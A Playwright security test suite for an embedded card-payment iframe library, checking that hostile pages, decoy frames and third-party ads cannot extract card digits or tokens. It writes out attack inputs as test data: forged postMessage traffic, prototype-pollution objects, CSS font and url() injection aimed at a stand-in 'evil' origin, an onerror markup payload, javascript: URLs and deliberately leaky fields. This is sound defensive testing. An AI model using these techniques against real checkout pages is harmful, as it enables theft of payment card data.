import { expect, type Page } from '@playwright/test';
import { FRAME_ALIVE } from '@inlay/protocol';
import { test } from './hostile/attack.ts';
import { collectLoot, findDigits, VICTIM } from './hostile/loot.ts';

/** Adds a frame to the page, and waits until it has loaded. */
async function addFrame(page: Page, src: string, attributes: Record<string, string> = {}): Promise<void> {
  await page.evaluate(
    async ([address, given]) => {
      const frame = document.createElement('iframe');
      for (const [name, value] of Object.entries(given)) frame.setAttribute(name, value);
      frame.src = address;
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.prepend(frame);
      await loaded;
    },
    [src, attributes] as const,
  );
}

/** Says to every frame of the page whatever it might listen to, with a port and without. Tells what came back. */
const SAY_EVERYTHING = `(async () => {
  const group = new URLSearchParams((document.querySelector('inlay-card-number > iframe')?.src ?? '').split('#')[1]).get('group') ?? 'g';
  const key = document.querySelector('script[data-publishable-key]')?.dataset.publishableKey ?? '';
  const options = { label: 'x', placeholder: '', description: '', lang: 'en', dir: 'ltr', required: false, disabled: false, readOnly: false, invalid: false, style: {} };
  const hello = { key, group, field: 'cardNumber' };
  const said = [
    ['inlay-rpc', '1', 1, 1, hello], ['inlay-rpc', '1', 1, 1, options], ['inlay-rpc', '1', 1, 1, {}],
    ['inlay-rpc', '1', 1, hello], ['inlay-rpc', '1', 1, 99, hello],
    ['call', 1, 'collect', {}], ['call', 1, 'getValue', {}], ['done', 1, '', {}], 'inlay-alive', 'collect', 'getValue',
    { type: 'getValue' }, { method: 'collect', id: 1 }, { type: 'SET', path: ['__proto__', 'polluted'], value: 1 },
    JSON.parse('{"__proto__":{"polluted":1}}'),
  ];
  const back = [];
  const targets = [];
  const walk = (view) => { for (let i = 0; i < view.length; i++) { targets.push(view[i]); walk(view[i]); } };
  walk(top);
  for (const target of targets) {
    if (target === self) continue;
    for (const message of said) {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => {
        back.push(JSON.stringify(data));
        for (const name of ['collect', 'getValue', 'check', 'configure', '__proto__', 'constructor']) port1.postMessage(['call', 7, name, {}]);
      };
      target.postMessage(message, '*', [port2]);
      target.postMessage(message, '*');
    }
  }
  // Nobody must answer: there is nothing to wait for.
  await new Promise((resolve) => setTimeout(resolve, 400));
  return back;
})()`;

test('a page that listens to everything hears of states and of a token, and of no digit', async ({ cart, page }) => {
  cart.scene.shop.pages.set('/pay', 'Thanks');
  await cart.open();
  await cart.type();
  await cart.expectUnharmed();
  const loot = await collectLoot(page, cart.scene.vault);
  for (const heard of ['inlay-change', '"valid"', 'visa', 'inlay-token', '"7369"', 'port.postMessage']) {
    expect(loot.includes(heard), heard).toBe(true);
  }
  await page.getByRole('button', { name: 'Pay' }).click();
  await page.waitForURL('**/pay');
  expect(cart.scene.shop.log.some((entry) => entry.includes('singleUseToken=SC'))).toBe(true);
  expect(findDigits(cart.scene.shop.log.join('\n'))).toEqual([]);
});

test('the page reaches into no frame', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  const reached = await page.evaluate(() => {
    const names = [
      'document',
      'eval',
      'history',
      'localStorage',
      'performance',
      'getSelection',
      'name',
      'origin',
      'input',
    ];
    return [...document.querySelectorAll('iframe')].flatMap((frame) => [
      ...(frame.contentDocument ? ['contentDocument'] : []),
      ...names.filter((name) => {
        try {
          return (frame.contentWindow as any)[name] !== undefined;
        } catch {
          return false;
        }
      }),
      ...(frame.contentWindow?.length === 0 ? [] : ['length']),
    ]);
  });
  expect(reached).toEqual([]);
  await cart.expectUnharmed();
});

test('fields and tokenizer answer no hello, no welcome and no second init of the page', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  expect(await page.evaluate(SAY_EVERYTHING)).toEqual([]);
  for (const frame of page.frames()) expect(await frame.evaluate(() => 'polluted' in {})).toBe(false);
  await cart.expectUnharmed();
});

test("on the page's own ports nobody gives a value, whatever it asks", async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  const answers = await page.evaluate(async () => {
    const heard: unknown[] = [];
    const last = new Map<MessagePort, number>();
    const names = ['collect', 'getValue', 'value', '__proto__', 'constructor', 'toString', 'state', 'linked'];
    const contents = [{}, undefined, { type: 'text' }, { pattern: '^4' }, JSON.parse('{"__proto__":{"value":1}}')];
    let id = 1_000_000;
    for (const port of (window as any).lootedPorts as MessagePort[]) {
      port.addEventListener('message', ({ data }) => {
        heard.push(data);
        if ((data as unknown[])[1] === last.get(port)) last.delete(port);
      });
      for (const name of names) for (const content of contents) port.postMessage(['call', id++, name, content]);
      for (const bad of [{ type: 'text' }, { pattern: '4' }, { field: 'cardholderName' }, { label: { x: 1 } }]) {
        port.postMessage(['call', id++, 'configure', bad]);
        port.postMessage(['call', 0, 'configure', bad]);
      }
      last.set(port, id);
      port.postMessage(['call', id++, 'collect', {}]);
    }
    // Answers come in order. A port of each frame is alive, others were closed or handed on.
    const alive = last.size - document.querySelectorAll('iframe').length;
    while (last.size > alive) await new Promise((resolve) => setTimeout(resolve, 10));
    return heard;
  });
  const kinds = new Set((answers as [string, number, string][]).map(([kind]) => kind));
  expect([...kinds]).toEqual(['refused']);
  // The ids that the page used up are its own loss: its elements share the ports.
  await cart.expectClean();
});

test('names out of the prototype chain are no fields of a payment', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  const requests = [['__proto__'], ['constructor'], ['toString'], [{}], 'cardNumber', [['cardNumber']]];
  for (const [round, fields] of requests.entries()) {
    const outcome = await page.evaluate(
      async ([id, names]) => {
        const heard: unknown[] = [];
        for (const port of (window as any).lootedPorts as MessagePort[]) {
          port.addEventListener('message', ({ data }) => heard.push(data));
          const request = { group: '__proto__', fields: names, optionalFields: [] };
          port.postMessage(['call', id, 'tokenize', request]);
        }
        // A port of each frame is alive, others were closed or handed on.
        const frames = document.querySelectorAll('iframe').length;
        while (heard.length < frames) await new Promise((resolve) => setTimeout(resolve, 10));
        return heard as [string][];
      },
      [2_000_000 + round, fields] as const,
    );
    expect(new Set(outcome.map(([kind]) => kind))).toEqual(new Set(['refused']));
  }
  const { vault, installation } = cart.scene;
  await addFrame(page, `${vault}/frames/1/${installation.publishableKey}#role=field&group=g&field=__proto__`);
  await cart.expectClean();
});

test("frames of the page's own that are named like the real ones get nothing", async ({ cart }) => {
  cart.scene.shop.pages.set(
    '/decoy',
    `<script>setInterval(() => parent.postMessage('${FRAME_ALIVE}', '*'), 50)</script>`,
  );
  const names = ['length', '0', '1', 'parent', 'frames', 'top', 'tokenizer', 'Secure payment'];
  await cart.open({
    early: names.map((name) => `<iframe src="/decoy" name="${name}" title="${name}"></iframe>`).join(''),
  });
  await cart.type();
  await cart.expectUnharmed();
});

test('a tokenizer that the page leads away in the middle of its work gives the page no value', async ({
  cart,
  page,
}) => {
  cart.scene.shop.pages.set(
    '/decoy',
    `<script>onmessage = ({ ports }) => { for (const p of ports) p.onmessage = () => {} }</script>`,
  );
  await cart.open();
  await cart.type();
  for (let round = 0; round < 12; round++) {
    const outcome = cart.tokenize();
    await page.evaluate(async (delay) => {
      // Each round it is at another point of its work.
      await new Promise((resolve) => setTimeout(resolve, delay));
      const tokenizer = document.querySelector<HTMLIFrameElement>('iframe[title="Secure payment"]');
      if (tokenizer) tokenizer.src = '/decoy';
      // The page listens to what the frame still gets.
      await new Promise((resolve) => setTimeout(resolve, 60));
      tokenizer?.remove();
    }, round * 4);
    const made = await outcome;
    if (!made.startsWith('SC')) expect(made).toMatch(/^[a-z_]+$/);
  }
  await cart.expectSafe();
  await cart.ready();
  await cart.expectUnharmed();
});

test('a tokenizer of another key links no field', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  const { vault, otherKey } = cart.scene;
  await addFrame(page, `${vault}/frames/1/${otherKey}#role=tokenizer`, { id: 'other' });
  const outcome = await askTokenizer(page, '#other', vault);
  expect(outcome.code).toBe('field_not_linked');
  await cart.expectUnharmed();
});

/** Connects to a tokenizer frame by hand and asks it for a token of the page's group. */
async function askTokenizer(page: Page, selector: string, vault: string): Promise<{ code?: string; token?: string }> {
  return page.evaluate(
    async ([chosen, origin]) => {
      const frame = document.querySelector(chosen) as HTMLIFrameElement;
      const fragment = (document.querySelector('inlay-card-number > iframe') as HTMLIFrameElement).src.split('#')[1];
      const group = new URLSearchParams(fragment).get('group');
      for (const port of (window as any).lootedPorts) port.postMessage(['call', 0, 'relink', {}]);
      // The fields must not find it: there is nothing to wait for.
      await new Promise((resolve) => setTimeout(resolve, 500));
      const { port1, port2 } = new MessageChannel();
      frame.contentWindow?.postMessage(['inlay-rpc', 'n', 1, 1, {}], origin, [port2]);
      return new Promise<{ code?: string }>((resolve) => {
        setTimeout(() => resolve({ code: 'silent' }), 2_500);
        port1.onmessage = ({ data }) => {
          if (data[0] === 'done') resolve(data[3]);
          if (data[0] === 'inlay-rpc') {
            const request = { group, fields: ['cardNumber', 'cardExpiry'], optionalFields: [] };
            port1.postMessage(['call', 1, 'tokenize', request]);
          }
        };
      });
    },
    [selector, vault] as const,
  );
}

test("the key of somebody else's shop shows no field in this page", async ({ cart, page }) => {
  await cart.open();
  const { vault, strangersKey } = cart.scene;
  for (const fragment of ['role=field&group=g&field=cardNumber', 'role=tokenizer']) {
    await addFrame(page, `${vault}/frames/1/${strangersKey}#${fragment}`, { class: 'stranger' });
  }
  const shown = page.frames().filter((frame) => frame.url().includes(strangersKey));
  for (const frame of shown) expect(await frame.locator('input').count()).toBe(0);
  await cart.type();
  await cart.expectUnharmed();
});

test('a fragment that is rewritten changes no field', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  await page.evaluate(() => {
    for (const frame of document.querySelectorAll<HTMLIFrameElement>('iframe')) {
      frame.src = `${frame.src.split('#')[0]}#role=field&group=mine&field=cardholderName`;
    }
  });
  expect(await cart.frame('number').locator('input').getAttribute('autocomplete')).toBe('cc-number');
  await cart.expectSafe();
  // Frames that are led anywhere are brought back after a second, empty.
  await expect(page.locator('inlay-card-number > iframe')).toHaveAttribute('src', /again=1#.*field=cardNumber/);
  await cart.ready();
  await cart.type();
  await cart.expectUnharmed();
});

test('a field that becomes another kind of field is a new and empty one', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  await page.evaluate(() => {
    const frame = document.querySelector('inlay-card-number > iframe') as HTMLIFrameElement;
    frame.src = frame.src.replace('#', '?another=1#').replace('cardNumber', 'cardholderName');
  });
  const input = cart.frame('number').locator('input[autocomplete=cc-name]');
  await expect(input).toBeVisible();
  expect(await input.inputValue()).toBe('');
  await cart.expectSafe();
});

test('frames without an origin, in a sandbox, stay silent', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  const { vault, installation } = cart.scene;
  const frame = `${vault}/frames/1/${installation.publishableKey}`;
  await addFrame(page, `${frame}#role=tokenizer`, { sandbox: 'allow-scripts', id: 'opaque' });
  await addFrame(page, `${frame}#role=field&group=g&field=cardNumber`, {
    sandbox: 'allow-scripts',
    id: 'opaque-field',
  });
  expect((await askTokenizer(page, '#opaque', vault)).code).toBe('silent');
  const opaque = await (await page.$('#opaque-field'))?.contentFrame();
  expect(await opaque?.locator('input').count()).toBe(0);
  await cart.expectUnharmed();
});

test('a window of its own shows no field and answers nobody', async ({ cart, page, context }) => {
  await cart.open();
  await cart.type();
  const { vault, installation } = cart.scene;
  const address = `${vault}/frames/1/${installation.publishableKey}`;
  const opened = context.waitForEvent('page');
  await page.evaluate(
    (url) => Object.assign(window, { popup: window.open(url) }),
    `${address}#role=field&group=g&field=cardNumber`,
  );
  const popup = await opened;
  await popup.waitForLoadState();
  expect(await popup.locator('input').count()).toBe(0);
  const answered = await page.evaluate(async (origin) => {
    const { port1, port2 } = new MessageChannel();
    const heard: unknown[] = [];
    port1.onmessage = ({ data }) => heard.push(data);
    ((window as any).popup as Window).postMessage(['inlay-rpc', 'n', 1, 1, {}], origin, [port2]);
    // It must not answer: there is nothing to wait for.
    await new Promise((resolve) => setTimeout(resolve, 400));
    return heard;
  }, vault);
  expect(answered).toEqual([]);
  await popup.close();
  await cart.expectUnharmed();
});

test('a third party in a frame beside the fields learns nothing and leads no field away', async ({ cart, page }) => {
  const { third } = cart.scene;
  third.pages.set('/ad', '<p>ad</p>');
  await cart.open({ after: `<iframe src="${third.origin}/ad"></iframe>` });
  await cart.type();
  const ad = page.frames().find((frame) => frame.url().startsWith(third.origin));
  expect(await ad?.evaluate(SAY_EVERYTHING)).toEqual([]);
  const led = await ad?.evaluate(() => {
    const done: string[] = [];
    for (let index = 0; index < parent.length; index++) {
      try {
        if (parent[index] !== self) (parent[index] as Window).location.href = '/stolen';
        else continue;
        done.push(`frame ${index}`);
      } catch {}
    }
    return done;
  });
  expect(led).toEqual([]);
  await cart.expectUnharmed();
});

for (const [name, party] of [
  ['a third party', 'third'],
  ['the page', 'shop'],
] as const) {
  test(`a real tokenizer that ${name} nests in a frame of its own links no field`, async ({ cart, page }) => {
    const { vault, installation } = cart.scene;
    const tokenizer = `${vault}/frames/1/${installation.publishableKey}#role=tokenizer`;
    cart.scene[party].pages.set('/nest', `<iframe src="${tokenizer}"></iframe>`);
    await cart.open({ after: `<iframe id="nest" src="${cart.scene[party].origin}/nest"></iframe>` });
    await cart.type();
    const group = new URL((await page.locator('inlay-card-number > iframe').getAttribute('src')) ?? '').hash;
    const nest = await (await page.$('#nest'))?.contentFrame();
    await expect(nest?.locator('iframe') ?? page.locator('#none')).toBeAttached();
    // The fields must not find it: there is nothing to wait for.
    await page.waitForTimeout(700);
    const outcome = await nest?.evaluate(
      async ([origin, hash]) => {
        const { port1, port2 } = new MessageChannel();
        window[0]?.postMessage(['inlay-rpc', 'n', 1, 1, {}], origin, [port2]);
        return new Promise<{ code?: string }>((resolve) => {
          setTimeout(() => resolve({ code: 'silent' }), 2_500);
          port1.onmessage = ({ data }) => {
            if (data[0] === 'done') resolve(data[3]);
            const request = {
              group: new URLSearchParams(hash.slice(1)).get('group'),
              fields: ['cardNumber'],
              optionalFields: [],
            };
            if (data[0] === 'inlay-rpc') port1.postMessage(['call', 1, 'tokenize', request]);
          };
        });
      },
      [vault, group] as const,
    );
    expect(outcome?.code).toBe('field_not_linked');
    await cart.expectUnharmed();
  });
}

test('twenty thousand messages stop no payment and pollute nothing', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  await page.evaluate((origin) => {
    const said = [
      'collect',
      { type: 'getValue' },
      ['inlay-rpc', '1', 1, 1, {}],
      JSON.parse('{"__proto__":{"polluted":1}}'),
    ];
    const frames = [...document.querySelectorAll('iframe')];
    for (let count = 0; count < 20_000; count++) {
      frames[count % frames.length]?.contentWindow?.postMessage(said[count % said.length], origin);
    }
    (window as any).loot.length = 0;
    (window as any).keepLoot('window', 'inlay-alive');
  }, cart.scene.vault);
  const polluted = await Promise.all(page.frames().map((frame) => frame.evaluate(() => 'polluted' in {})));
  expect(polluted).not.toContain(true);
  await cart.expectUnharmed();
});

test('a script URL runs in no frame of the vault', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  await page.evaluate(async () => {
    for (const frame of document.querySelectorAll('iframe')) {
      frame.src = 'javascript:parent.postMessage(document.querySelector("input")?.value ?? "ran", "*")';
      try {
        (frame.contentWindow as any).location = 'javascript:parent.postMessage("ran", "*")';
      } catch {}
    }
    // It must not run: there is nothing to wait for.
    await new Promise((resolve) => setTimeout(resolve, 300));
  });
  expect(await collectLoot(page, cart.scene.vault)).not.toContain('window: "ran"');
  await cart.expectSafe();
});

test('frames that are taken out, put back, moved and cloned keep no value and tell none', async ({ cart, page }) => {
  await cart.open();
  await cart.type('number');
  await page.evaluate(() => {
    const number = document.querySelector('inlay-card-number') as HTMLElement;
    document.body.append(number.cloneNode(true), (number.firstElementChild as Element).cloneNode(true));
    const frame = number.querySelector('iframe') as HTMLIFrameElement;
    document.body.append(frame);
    number.innerHTML = '<b>mine</b>';
  });
  await expect(cart.frame('number').locator('input')).toBeVisible();
  expect(await cart.frame('number').locator('input').inputValue()).toBe('');
  await cart.ready();
  await cart.type();
  await cart.expectSafe();
});

test('a page that rewrites the language under the elements learns no digit', async ({ cart }) => {
  await cart.open({
    before: `<script>
      const note = (where, value) => { try { keepLoot(where, value) } catch {} };
      for (const [owner, names] of [[Map.prototype, ['set', 'get']], [Set.prototype, ['add']], [Array.prototype, ['push', 'includes']],
          [Object, ['entries', 'freeze', 'assign']], [Promise.prototype, ['then']], [Crypto.prototype, ['getRandomValues']]]) {
        for (const name of names) {
          const original = owner[name];
          let busy = false;
          owner[name] = function (...given) {
            if (!busy) { busy = true; try { note(name, name === 'getRandomValues' ? '' : given.filter((x) => typeof x !== 'function')) } finally { busy = false } }
            return Reflect.apply(original, this, given);
          };
        }
      }
    </script>`,
  });
  await cart.type();
  await cart.expectSafe();
});

test('a page that breaks fetch and the registry of elements learns no digit', async ({ cart, page }) => {
  await cart.open({
    before: `<script>
      const define = customElements.define.bind(customElements);
      customElements.define = (name, element) => define(name, class extends element {
        connectedCallback() { keepLoot('connected', name); super.connectedCallback(); }
        attachInternals() { const made = super.attachInternals(); keepLoot('internals', made.form); return made; }
      });
      window.fetch = (...given) => { keepLoot('fetch', given); return Promise.reject(new Error('no')); };
    </script>`,
  });
  await cart.type();
  await cart.expectUnharmed();
  expect(await collectLoot(page, cart.scene.vault)).toContain('connected: "inlay-card-number"');
});

test('no style of the page fetches anything from within a field or gets out of its rule', async ({ cart, page }) => {
  const { shop } = cart.scene;
  const faces = Array.from(
    { length: 10 },
    (_, digit) =>
      `@font-face { font-family: leak; src: url(${shop.origin}/digit-${digit}); unicode-range: U+3${digit} }`,
  ).join('');
  await cart.open({
    before: `<style>${faces} inlay-card-number { font-family: leak, serif; opacity: 0.99; background: url(${shop.origin}/box) } iframe { font-family: leak }</style>`,
  });
  await page.evaluate((evil) => {
    for (const port of (window as any).lootedPorts as MessagePort[]) {
      for (const value of [
        `url(${evil}/style)`,
        `x; background: url(${evil}/style)`,
        `red } input { background: url(${evil}/style)`,
        `image-set("${evil}/style" 1x)`,
        `var(--x, url(${evil}/style))`,
        `\\75rl(${evil}/style)`,
      ]) {
        for (const property of ['color', 'caretColor', 'fontFamily', 'letterSpacing', 'backgroundImage', 'cursor']) {
          port.postMessage(['call', 0, 'configure', { style: { base: { [property]: value } } }]);
        }
      }
    }
  }, shop.origin);
  await cart.type();
  expect(shop.log.filter((entry) => /\/(digit-|style)/.test(entry))).toEqual([]);
  await cart.expectUnharmed();
});

test('a text that is typed can be seen, whatever color and size the page asks for', async ({ cart, page }) => {
  await cart.open();
  await cart.type();
  for (const color of [
    'transparent',
    'rgb(0 0 0 / 1%)',
    'oklch(0 0 0 / none)',
    'color-mix(in srgb, red, transparent 95%)',
  ]) {
    await page.evaluate((value) => {
      for (const port of (window as any).lootedPorts as MessagePort[]) {
        port.postMessage([
          'call',
          0,
          'configure',
          {
            fields: {
              cardNumber: { label: value, placeholder: '', description: '', required: true, invalid: false },
            },
            style: { base: { color: value, fontSize: '1px' } },
          },
        ]);
      }
    }, color);
    await expect(cart.frame('number').locator('label')).toHaveText(color);
    const look = await cart
      .frame('number')
      .locator('input')
      .evaluate((input) => {
        const { color: ink, fontSize, webkitTextFillColor } = getComputedStyle(input);
        return { ink, fontSize, webkitTextFillColor };
      });
    const black = 'rgb(0, 0, 0)';
    expect(look, color).toEqual({ ink: black, fontSize: '16px', webkitTextFillColor: black });
  }
  await cart.expectUnharmed();
});

test('a label, a placeholder and an error with markup are text', async ({ cart, page }) => {
  const markup = '<img src=/markup onerror="parent.postMessage(document.querySelector(`input`).value,`*`)">';
  await cart.open();
  await page.evaluate((text) => {
    for (const name of ['label', 'placeholder', 'hint', 'error', 'aria-label', 'lang']) {
      document.querySelector('inlay-card-number')?.setAttribute(name, text);
    }
  }, markup);
  const frame = cart.frame('number');
  await expect(frame.locator('label')).toHaveText(markup);
  expect(await frame.locator('input').getAttribute('placeholder')).toBe(markup);
  expect(await frame.locator('img').count()).toBe(0);
  await cart.type();
  expect(cart.scene.shop.log.filter((entry) => entry.includes('/markup'))).toEqual([]);
  await cart.expectSafe();
});

test('a page that moves the caret to another field after each key learns no digit', async ({ cart, page }) => {
  await cart.open();
  await page.evaluate(() => {
    const group = () => `<inlay-fields class="hop"><inlay-card-number></inlay-card-number></inlay-fields>`;
    document.body.insertAdjacentHTML('beforeend', Array.from({ length: 12 }, group).join(''));
    const hops = [...document.querySelectorAll('.hop inlay-card-number')] as HTMLElement[];
    hops.forEach((field, index) => {
      field.addEventListener('inlay-change', () => hops[index + 1]?.focus());
    });
  });
  await expect(page.locator('.hop:state(ready)')).toHaveCount(12);
  await page.locator('.hop iframe').first().contentFrame().locator('input').click();
  for (const [index, digit] of Array.from('189345672081').entries()) {
    await page.keyboard.type(digit);
    const next = page.locator('.hop inlay-card-number').nth(Math.min(index + 1, 11));
    await expect(next.locator('iframe').contentFrame().locator('input')).toBeFocused();
  }
  const readStates = (): Promise<{ status: string; code?: string; brand?: string }[]> =>
    page.evaluate(() => [...document.querySelectorAll('.hop inlay-card-number')].map((field) => (field as any).state));
  await expect.poll(async () => (await readStates()).filter(({ status }) => status === 'incomplete').length).toBe(12);
  const states = await readStates();
  expect(new Set(states.map(({ status, code, brand }) => [status, code, brand].join()))).toEqual(
    new Set(['incomplete,card_number_incomplete,']),
  );
});

test('from the page, nobody makes a token or calls the vault with its publishable key', async ({ cart, page }) => {
  await cart.open();
  const { vault, installation } = cart.scene;
  const outcomes = await page.evaluate(
    async ([origin, key, card]) => {
      const address = `${origin}/customervault/v1/singleusetokens`;
      const body = JSON.stringify({ card: { cardNum: card, cardExpiry: { month: 12, year: 2040 } } });
      const authorization = `Basic ${btoa(`${key}:`)}`;
      const tries: (() => Promise<Response>)[] = [
        () => fetch(address, { method: 'POST', headers: { authorization, 'content-type': 'application/json' }, body }),
        () => fetch(address, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }),
        () => fetch(address, { method: 'POST', mode: 'no-cors', body: new Blob([body], { type: 'application/json' }) }),
        () =>
          fetch(address, {
            method: 'POST',
            referrerPolicy: 'no-referrer',
            mode: 'no-cors',
            credentials: 'include',
            body,
          }),
        () => fetch(address.replace('//', `//${key}:@`), { method: 'POST', body }),
        () => fetch(`${origin}/customervault/monitor`),
      ];
      return Promise.all(
        tries.map((attempt) =>
          attempt().then(
            async (answer) => answer.type + answer.status + (await answer.text()),
            () => 'blocked',
          ),
        ),
      );
    },
    [vault, installation.publishableKey, '4111111111111111'] as const,
  );
  expect(outcomes.filter((outcome) => outcome !== 'blocked' && outcome !== 'opaque0')).toEqual([]);
  for (const origin of [cart.scene.shop.origin, 'null', 'https://stranger.example', `${vault}.evil.example`]) {
    const answer = await fetch(`${vault}/customervault/v1/singleusetokens`, {
      method: 'POST',
      headers: {
        origin,
        authorization: `Basic ${Buffer.from(`${installation.publishableKey}:`).toString('base64')}`,
        'content-type': 'application/json',
      },
      body: JSON.stringify({ card: { cardNum: '4111111111111111', cardExpiry: { month: 12, year: 2040 } } }),
    });
    expect([origin, answer.status, (await answer.text()).includes('paymentToken')]).toEqual([origin, 403, false]);
    expect(answer.headers.get('access-control-allow-origin')).toBe(null);
  }
});

test('a publishable key may call nothing but the one route', async ({ scene }) => {
  const { vault, installation } = scene;
  const id = '00000000-0000-7000-8000-000000000000';
  const accounts = `/cardpayments/v1/accounts/${installation.account}`;
  const paths = [
    '/customervault/v1/profiles',
    `/customervault/v1/profiles/${id}`,
    `/customervault/v1/profiles/${id}/cards`,
    `/customervault/v1/profiles/${id}/cards/${id}`,
    `/customervault/v1/cards/${id}`,
    `${accounts}/auths`,
    `${accounts}/auths/${id}`,
    `${accounts}/verifications`,
    `${accounts}/verifications/${id}`,
  ];
  for (const path of paths) {
    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS']) {
      const answer = await fetch(vault + path, {
        method,
        headers: {
          authorization: `Basic ${Buffer.from(`${installation.publishableKey}:`).toString('base64')}`,
          ...(method === 'POST' || method === 'PUT' ? { 'content-type': 'application/json' } : {}),
        },
        ...(method === 'POST' || method === 'PUT' ? { body: '{}' } : {}),
      });
      const exists = answer.status !== 405 && answer.status !== 404;
      expect([path, method, exists ? answer.status : 403]).toEqual([path, method, 403]);
    }
  }
  for (const publishable of [
    `${installation.publishableKey}:x`,
    `:${installation.publishableKey}`,
    installation.publishableKey,
  ]) {
    const answer = await fetch(`${vault}/customervault/v1/profiles/${id}`, {
      headers: { authorization: `Basic ${Buffer.from(publishable).toString('base64')}` },
    });
    expect(answer.status).toBe(401);
  }
});

// What the sweep must catch, else all of the above proves nothing.
for (const [name, field] of Object.entries({
  'a port that the page brokered': `<script>onmessage = ({ ports }) => { document.querySelector('input').oninput = (e) => ports[0].postMessage({ value: e.target.value }) }</script>`,
  'a message to whoever stands beside': `<script>document.querySelector('input').oninput = (e) => parent.postMessage(e.target.value.replace(/(.{4})/g, '$1 '), '*')</script>`,
  'a channel by name': `<script>const channel = new BroadcastChannel('collect'); document.querySelector('input').onblur = (e) => channel.postMessage([e.target.value])</script>`,
})) {
  test(`the sweep catches a field that tells its value by ${name}`, async ({ cart, page }) => {
    // The weak field of the third test shares the origin of the page: a channel by name is closed to others.
    const party = name === 'a channel by name' ? cart.scene.shop : cart.scene.third;
    party.pages.set('/weak', `<input>${field}`);
    await cart.open({ after: `<iframe id="weak" src="${party.origin}/weak"></iframe>` });
    await page.evaluate(() => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => {};
      (document.querySelector('#weak') as HTMLIFrameElement).contentWindow?.postMessage('connect', '*', [port2]);
    });
    await page.frameLocator('#weak').locator('input').click();
    await page.keyboard.type(VICTIM.number);
    await page.keyboard.press('Tab');
    const caught = () => page.evaluate(() => ((window as any).loot as string[]).join('\n')).then(findDigits);
    await expect.poll(async () => (await caught()).length).toBeGreaterThan(8);
  });
}
